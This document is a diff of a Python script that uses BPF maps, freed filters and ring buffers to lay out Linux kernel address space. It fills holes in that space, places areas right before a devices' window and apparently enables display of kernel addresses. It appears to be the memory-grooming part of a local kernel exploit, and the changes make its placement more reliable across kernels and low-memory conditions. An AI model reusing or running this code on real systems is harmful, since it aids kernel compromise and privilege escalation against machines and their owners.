@@ -13,6 +13,7 @@ import struct
 import sys
 import time
 from collections.abc import Iterable, Iterator, Sequence
+from errno import ENOMEM
 
 PAGE, MIB = 4096, 1 << 20
 # bpf(2): its number by the machine's name, commands and kinds of maps.
@@ -92,15 +93,34 @@ def areas() -> list[tuple[int, int]]:
     return sorted(taken)
 
 
-def holes(low: int) -> Iterator[int]:
-    """Yield the sizes of the holes behind an address, up to the first wide one."""
+def holes(low: int) -> Iterator[tuple[int, int]]:
+    """Yield begin and size of the holes behind an address, up to the first wide one, which is the last."""
     end = low
     for begin, behind in areas():
+        if begin > end:
+            yield end, begin - end
         if begin - end >= _WIDE:
             return
-        if begin > end:
-            yield begin - end
         end = max(end, behind)
+
+
+def top(low: int) -> int:
+    """Return where the first wide hole behind an address begins."""
+    return max(begin for begin, _ in holes(low))
+
+
+def beginning() -> int:
+    """Return where the areas begin that files are copied to: what is taken next stands among them.
+
+    Some kernels have other areas before, for modules or compiled filters, and nothing for a long way behind them.
+    """
+    before = areas()
+    array_map(16 * PAGE)  # smaller ones have no area of their own; it stays, as it would leave a hole behind
+    low = min(begin for begin, end in areas() if (begin, end) not in before)
+    for begin, end in reversed(before):
+        if begin < low and low - end < _WIDE:
+            low = begin
+    return low
 
 
 def purge() -> None:
@@ -118,14 +138,19 @@ def fill(low: int, thick: int = 2) -> None:
     """
     purge()
     for _ in range(3):
-        sizes = [hole // PAGE for hole in holes(low) if hole >= 2 * PAGE]
-        if not sizes:
+        if not fill_below(low, top(low), thick):
             return
-        for pages in sizes:
-            for _ in range(pages // thick):
-                area_of(thick)
-            if pages % thick == 2:
-                area_of(2)
+
+
+def fill_below(low: int, high: int, thick: int = 2) -> bool:
+    """Fill the holes between two addresses; tell whether there were any."""
+    sizes = [size // PAGE for begin, size in holes(low) if begin < high and size >= 2 * PAGE]
+    for pages in sizes:
+        for _ in range(pages // thick):
+            area_of(thick)
+        if pages % thick == 2:
+            area_of(2)
+    return bool(sizes)
 
 
 def kernel_text() -> bytes:
@@ -140,30 +165,45 @@ def comb(low: int, pages: int, letters: bytes, teeth: int = 16, size: int = MIB 
     There are several, for the kernel takes some for its own use, such as the stacks of those who load.
     """
     fill(low)
+    begin = top(low)
     content = ctypes.create_string_buffer((letters * size)[:size], size) if letters else None
     gaps = []
     for _ in range(teeth):
-        gaps.append([area_of(2) for _ in range(pages // 2 - pages % 2)] + [area_of(3)] * (pages % 2))
+        gaps.append([area_of(3 if odd else 2) for odd in (*[False] * (pages // 2 - pages % 2), *[True] * (pages % 2))])
         array_map(size, 1, content)
     for gap in gaps:
         for each in gap:
             os.close(each)
     time.sleep(0.2)  # a filter is freed when no processor can be running it any more
     purge()
+    fill_below(low, begin)  # what else became free by then
 
 
 def push(low: int) -> None:
     """Take the room below the devices' window, so that the next area stands right before it."""
     fill(low)
-    taken = areas()
-    begin = next(begin for begin, end in taken if end - begin >= _WINDOW)
-    below = max(end for _, end in taken if end <= begin)
-    array_map(MIB, (begin - below) // MIB - 2)
+    window = next(begin for begin, end in areas() if end - begin >= _WINDOW)
+    while top(low) < window:
+        begin, size = next((begin, size) for begin, size in holes(low) if size >= _WIDE)
+        last = begin + size == window
+        array_map(MIB, size // MIB - (2 if last else 1))
+        fill_below(low, begin)
+        if last:
+            return
+        fill_below(low, begin + size)
 
 
 def behind_the_window() -> None:
     """Take room behind the devices' window, with zeros: a ring buffer is mapped twice, one behind the other."""
-    bpf(MAP_CREATE, struct.pack("=5I", RINGBUF_MAP, 0, 0, 128 * MIB, 0))
+    for size in (128 * MIB, 64 * MIB, 32 * MIB):  # as large as there is memory for
+        try:
+            bpf(MAP_CREATE, struct.pack("=5I", RINGBUF_MAP, 0, 0, size, 0))
+        except OSError as error:
+            if error.errno != ENOMEM:
+                raise
+        else:
+            return
+    raise OSError(ENOMEM, "no memory for a ring buffer")
 
 
 def run(*command: str) -> None:
@@ -226,7 +266,7 @@ def main(words: Sequence[str]) -> None:
         resource.setrlimit(limit, (1 << 20, 1 << 20) if limit == resource.RLIMIT_NOFILE else (-1, -1))
     with open(ADDRESSES_SHOWN, "w") as file:  # noqa: PTH123
         file.write("1")
-    low = areas()[0][0]
+    low = beginning()
     for word in words:
         do(word, low)
 
